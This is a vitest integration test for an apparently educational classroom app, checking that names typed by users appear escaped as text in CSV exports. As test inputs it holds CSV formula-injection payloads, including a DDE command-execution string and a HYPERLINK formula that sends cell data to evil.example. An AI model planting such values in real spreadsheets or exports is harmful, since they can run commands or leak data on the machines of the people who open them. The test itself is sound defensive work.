/**
 * Issue 12 row 7: names chosen by students and teachers reach the class, school and challenge CSVs as
 * text a spreadsheet shows, never as formulas it runs.
 */
import { parse } from "csv-parse/sync";
import { io } from "socket.io-client";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ok, PASSWORD, uniqueEmail } from "./support/accounts";
import { HttpBrowser } from "./support/http-client";
import { type RunningApp, startRunningApp } from "./support/running-app";

let app: RunningApp;
beforeAll(async () => {
  app = await startRunningApp();
});
afterAll(() => app?.stop());

const TEACHER_NAME = "=cmd|' /C calc'!A0";
const CLASS_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
// Nicknames allow letters, digits, spaces and . _ ' - only: a leading minus is what a student can send.
const NICKNAMES = ["-2-3", "-A1", "Zoë"];

/** Parsed CSV rows (the BOM dropped). */
async function csvRows(browser: HttpBrowser, path: string): Promise<string[][]> {
  const response = await browser.fetch(path);
  expect(response.status).toBe(200);
  return parse((await response.text()).replace(/^\uFEFF/, ""));
}

/** A spreadsheet runs a cell as a formula when it starts with one of these. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

/** Cells that would run as formulas, except numbers (a negative number is just a number). */
function formulaCells(rows: string[][]): string[] {
  return rows.flat().filter((cell) => runsAsFormula(cell) && Number.isNaN(Number(cell)));
}

describe("row 7: formula injection in CSV exports", () => {
  it("exports hostile names as text in the class, school and challenge CSVs; numbers stay numbers", async () => {
    const teacher = new HttpBrowser(app.webUrl);
    ok(
      await teacher.mutate("auth.signUp", {
        displayName: TEACHER_NAME,
        schoolName: "@SUM(1+1)*cmd",
        email: uniqueEmail("csv"),
        password: PASSWORD,
      }),
    );
    const { joinCode: code } = ok(
      await teacher.mutate<{ joinCode: string }>("classroom.create", { name: CLASS_NAME }),
    );
    const challenge = ok(
      await teacher.mutate<{ id: string }>("challenge.create", {
        code,
        title: "+1+1",
        kind: "blobs",
        noise: 0.2,
        classBalance: 0.5,
        labelFlips: 0,
        outliers: 0,
        seed: 7,
        trainSize: 40,
        testSize: 40,
        durationMinutes: 5,
        controls: ["learningRate"],
      }),
    );
    ok(await teacher.mutate("challenge.transition", { challengeId: challenge.id, to: "live" }));

    // Each student joins the class and the challenge (over the realtime service, as the page does).
    for (const nickname of NICKNAMES) {
      const student = new HttpBrowser(app.webUrl);
      ok(await student.mutate("student.join", { code, nickname }));
      const { token, url } = ok(
        await student.mutate<{ token: string; url: string }>("challenge.realtimeToken", {
          challengeId: challenge.id,
        }),
      );
      const socket = io(url, {
        auth: { token },
        transports: ["websocket"],
        reconnection: false,
        forceNew: true,
      });
      await new Promise<void>((resolve, reject) => {
        socket.once("connect", resolve);
        socket.once("connect_error", reject);
      });
      socket.disconnect();
    }

    const progress = await csvRows(teacher, `/api/export/class/${code}/progress`);
    const school = await csvRows(teacher, "/api/export/school");
    const results = await csvRows(teacher, `/api/export/challenge/${challenge.id}`);

    for (const rows of [progress, school, results]) expect(formulaCells(rows)).toEqual([]);
    // What people typed is all there, behind a leading apostrophe where it could run.
    expect(progress.map((row) => row[0])).toEqual(expect.arrayContaining(["'-2-3", "'-A1", "Zoë"]));
    expect(school[1]?.slice(0, 3)).toEqual([`'${CLASS_NAME}`, code, `'${TEACHER_NAME}`]);
    expect(results.map((row) => row[1])).toEqual(expect.arrayContaining(["'-2-3", "'-A1", "Zoë"]));
    // Numeric columns still hold numbers: ranks, counts and percentages parse.
    for (const row of results.slice(1)) expect(Number.isFinite(Number(row[0]))).toBe(true);
    for (const row of school.slice(1)) expect(Number.isFinite(Number(row[3]))).toBe(true);
  });
});
